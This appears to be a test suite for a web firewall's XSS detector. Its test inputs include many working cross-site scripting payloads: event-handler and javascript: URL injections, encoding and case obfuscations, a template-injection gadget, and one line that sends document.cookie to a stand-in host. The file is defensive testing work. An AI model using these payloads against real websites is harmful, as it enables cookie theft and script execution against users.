import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectXss } from '../../../../src/guard/decide/waf/detect/xss/xss.ts';

const scoreOf = (text: string): number => detectXss(text)?.score ?? 0;

const contexts: readonly (readonly [string, string, string])[] = [
  ['<script>alert(1)</script>', 'HTML text', 'script: call of alert'],
  ['<svg/onload=alert(1)>', 'HTML text', 'onload of svg: call of alert'],
  ['" onfocus=alert(1) autofocus x="', 'double-quoted attribute', 'onfocus: call of alert'],
  ["' onfocus=alert(1) autofocus x='", 'single-quoted attribute', 'onfocus: call of alert'],
  ['` onfocus=alert(1) autofocus x=`', 'back-ticked attribute', 'onfocus: call of alert'],
  ['x onmouseover=alert(1)', 'unquoted attribute', 'onmouseover: call of alert'],
  ['javascript:alert(1)', 'URL', 'javascript: call of alert'],
  ['<a href=javascript:alert(1)>', 'URL attribute', 'javascript: in href of a: call of alert'],
  ["';alert(1)//", 'JavaScript string in single quotes', 'call of alert'],
  ['"-alert(1)-"', 'JavaScript string in double quotes', 'call of alert'],
  ['`;alert(1)//', 'JavaScript template', 'call of alert'],
  ['alert(1)', 'JavaScript', 'call of alert'],
  ['*/alert(1)/*', 'JavaScript comment', 'call of alert'],
  ['<p style="x:expression(alert(1))">', 'CSS', 'style of p: expression() in a style'],
  ["hi {{constructor.constructor('alert(1)')()}}", 'template {{…}}', 'constructor.constructor'],
];

for (const [text, context, what] of contexts) {
  test(`${text} would run in: ${context}`, () => {
    const finding = detectXss(text);
    assert.ok(finding !== null);
    assert.equal(finding.family, 'xss');
    assert.equal(finding.context, context);
    assert.equal(finding.what, what);
    assert.ok(finding.score >= 80, `${finding.score}`);
  });
}

test('a finding names the very part of the value', () => {
  const text = 'Hello <b>you</b> <img src=x onerror="alert(1)"> bye';
  const finding = detectXss(text)!;
  assert.equal(text.slice(finding.from, finding.to), 'onerror="alert(1)');
});

test('a handler that calls a function of the page’s own counts only where sensitivity is high', () => {
  for (const text of ['use <button onclick="toggle()"> here', '<body onload="init()">']) {
    assert.ok(scoreOf(text) >= 30 && scoreOf(text) < 50, `${text}: ${scoreOf(text)}`);
  }
});

test('the same tag is an attack where it breaks out of an attribute and none within prose', () => {
  const tag = '<img src=x onerror=load()>';
  assert.ok(scoreOf(`">${tag}`) >= 50);
  assert.ok(scoreOf(`You can write ${tag} to show another picture when the first is missing.`) < 50);
});

test('what an attack alone does is an attack within prose too', () => {
  const prose = 'I have a question about my page, which loads the picture but then shows nothing at all.';
  for (const code of ["fetch('//a.test/'+document.cookie)", 'eval(atob(`YQ==`))', 'alert(document.domain)']) {
    assert.ok(scoreOf(`${prose} <img src=x onerror="${code}"> ${prose}`) >= 50, code);
  }
});

test('white space, slashes, controls and case in a tag hide nothing', () => {
  for (const gap of [' ', '\t', '\n', '\f', '\v', '\r\n', '/', '\0', '/ /']) {
    assert.ok(scoreOf(`<sVg${gap}oNlOaD${gap === '/' ? '' : ' '}=alert(1)`) >= 80, JSON.stringify(gap));
  }
});

test('character references in an attribute hide nothing, with and without semicolons', () => {
  for (const value of [
    '&#106;avascript:alert(1)',
    '&#x6a&#x61vascript:alert(1)',
    'java&Tab;script&colon;alert&lpar;1&rpar;',
    'java&NewLine;script:alert(1)',
    '&#0000000106avascript:alert(1)',
    '\u0001java\nscript:alert(1)',
  ]) {
    assert.ok(scoreOf(`<a href="${value}">x</a>`) >= 80, value);
  }
});

test('full-width marks count as what a conversion makes of them', () => {
  assert.ok(scoreOf('＜script＞alert(1)＜/script＞') >= 80);
  assert.equal(detectXss('全角：ａｌｅｒｔ（１）'), null);
});

test('ordinary text, mark-up and addresses are nothing', () => {
  for (const text of [
    '5 < 6 && 7 > 3',
    'a<b',
    '<3',
    'List<String>',
    "O'Brien",
    'joe <joe@x.example>',
    '<p class="x">hi</p>',
    '<a href="https://example.com/?a=1">x</a>',
    '<img src="/x.png" alt="">',
    '{{name}}',
    '${HOME}',
    'javascript: the good parts',
    'data:image/png;base64,iVBORw0KGgo=',
    '<?xml version="1.0"?><a b="c"><![CDATA[x < y]]></a>',
    '{"a":"it\'s (b) = c"}',
    '',
  ]) {
    assert.equal(detectXss(text), null, text);
  }
});

test('the mere name of a script element, left open, is nothing of the caller’s; with more it is', () => {
  for (const text of ['<script', 'what is <script', '<script ']) assert.ok(scoreOf(text) < 50, text);
  for (const text of [
    '"><script',
    '</textarea><script',
    '<script x',
    '<script/x',
    '<script src=',
    '<script>',
  ])
    assert.ok(scoreOf(text) >= 50, text);
});
